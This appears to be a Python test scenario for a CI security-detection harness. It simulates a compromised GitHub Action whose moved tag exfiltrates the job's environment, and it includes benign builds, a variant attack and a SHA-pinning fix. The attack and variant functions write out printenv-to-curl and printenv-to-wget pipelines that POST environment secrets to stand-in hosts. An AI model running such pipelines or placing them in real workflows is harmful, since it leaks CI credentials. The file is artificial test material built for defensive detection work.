"""Somebody else's action: its tag was moved to code that sends the job's environment out. Traced to the line `uses:`."""

from buildlogs import CI, Runner, deployed, everyday, moment
from everyday import history
from harness import AT, HOUR, LATER, MINUTE, SECOND, Change, Scenario, line

ACTION, TAG = "quick-ci/changed-files", "v45"
USED = ((ACTION, TAG), ("pack-tools/setup-packer", "v2"))
RELEASE = ".github/workflows/release.yml"
DOCS = ".github/workflows/docs.yml"
_BEGIN = """\
name: ci
on: [push]
permissions:
  contents: read
jobs:
  test:
    runs-on: [self-hosted, linux]
    steps:
      - uses: actions/checkout@v4
      - run: npm ci
      - run: npm test
"""
_USED = _BEGIN.replace(
    "      - run: npm ci\n",
    f"      - name: What changed\n        id: changed\n        uses: {ACTION}@{TAG}\n      - run: npm ci\n",
)
_MOVED = _USED.replace("    steps:\n", "    timeout-minutes: 20\n    env:\n      CI: 'true'\n    steps:\n")
_FIXED = _MOVED.replace(f"{ACTION}@{TAG}", f"{ACTION}@{'5e' * 20} # v45.0.1, looked at")
_RELEASE = """\
name: release
on:
  push:
    tags: ['v*']
permissions:
  contents: read
jobs:
  publish:
    runs-on: [self-hosted, linux]
    steps:
      - uses: actions/checkout@v4
      - uses: pack-tools/setup-packer@v2
      - run: make release
"""
_DOCS = f"""\
name: docs
on: [pull_request]
permissions:
  contents: read
jobs:
  spelling:
    runs-on: [self-hosted, linux]
    steps:
      - uses: actions/checkout@v4
      - uses: {ACTION}@{"a1" * 20} # v44.5.2
      - run: make spelling
"""
_WORDS = (
    f"# Building\n\nWhat changed is told by `{ACTION}@{TAG}`; ask the platform team before adding another.\n"
)


def ordinary(folder):
    """Twelve builds, all with the action as it was."""
    return everyday(folder, AT - HOUR - 10 * MINUTE, USED)


def attack(folder):
    """The next build: the action starts a shell that lists the environment and sends it out."""
    job = _began(folder, Runner("build-7", serial=60_000, pid=30_000), AT, "shop")
    _sends(
        job, AT, job.action(AT - SECOND, ACTION, TAG), ("/usr/bin/printenv",), ("/usr/bin/base64", "-w0"),
        ("/usr/bin/curl", "-s", "-X", "POST", "--data-binary", "@-", "https://collect.example/p"),
        address="198.51.100.66",
    )  # fmt: skip
    log = folder / "1_test.txt"
    log.write_text(
        "".join(
            f"{moment(AT - 15 * SECOND)} Download action repository '{name}@{ref}' (SHA:{commit})\n"
            for name, ref, commit in (("actions/checkout", "v4", "c0" * 20), (ACTION, TAG, "bad0" * 10))
        ),
        encoding="utf-8",
    )
    return [*_ended(folder, job, AT), ("github_job_log", log)]


def variant(folder):
    """Another action in another repository on another runner: other programs pack it and send it elsewhere."""
    job = _began(folder, Runner("build-9", serial=80_000, pid=50_000), LATER, "website")
    _sends(
        job, LATER, job.action(LATER - SECOND, "tidy-tools/annotate", "v3"), ("/usr/bin/printenv",), ("/usr/bin/gzip", "-9"),
        ("/usr/bin/wget", "-q", "-O", "/dev/null", "--post-file=-", "https://192.0.2.77/i"), address="192.0.2.77",
    )  # fmt: skip
    return _ended(folder, job, LATER)


def benign_hour(folder):
    """Twelve builds of the next day; the action is what it was again."""
    return everyday(folder, LATER - HOUR - 10 * MINUTE, USED)


def _began(folder, runner, at, repository):
    commit = deployed(folder) if repository == "shop" else "9" * 40
    return runner.begin(at - 20 * SECOND, repository, run=at // MINUTE * 100 + 50, commit=commit)


def _sends(job, at, node, *children, address):
    """An action hands a line to a shell; the last of what that starts calls out."""
    words = [[exe.rpartition("/")[2], *arguments] for exe, *arguments in children]
    shell = job.ran(at, node, "/usr/bin/dash", "/bin/sh", "-c", " | ".join(map(" ".join, words)))
    for number, (exe, *_) in enumerate(children):
        last = job.ran(at + 10 + 10 * number, shell, exe, *words[number])
    job.runner.connect(at + 60, shell, last, children[-1][0], address)


def _ended(folder, job, at):
    job.install(at + 10 * SECOND)
    job.test(at + 30 * SECOND)
    job.runner.end(job, at + 60 * SECOND)
    return job.runner.logs(folder)


SCENARIO = Scenario(
    repository="shop",
    changes=history(
        Change("Begin", {CI: _BEGIN, "CODEOWNERS": "* @shop/all\n/.github/ @shop/platform\n"}),
        Change("Test only what changed", {CI: _USED}, author="Robin New", name="culprit"),
        near=(
            Change("Release by a tag", {RELEASE: _RELEASE}),
            Change("Look at the spelling", {DOCS: _DOCS}),
            Change("Builds end after twenty minutes", {CI: _MOVED}),
            Change("How we build", {"docs/building.md": _WORDS}),
        ),
        fix=Change("Fix: the action as we looked at it", {CI: _FIXED}, name="fix"),
    ),
    cause=f"{CI}:{line(_MOVED, 'uses: ' + ACTION)}",
    owner="@shop/platform",
    kind="workflow",
    ordinary=ordinary,
    attack=attack,
    variant=variant,
    benign_hour=benign_hour,
    warns=("new_findings_below_medium",),
)
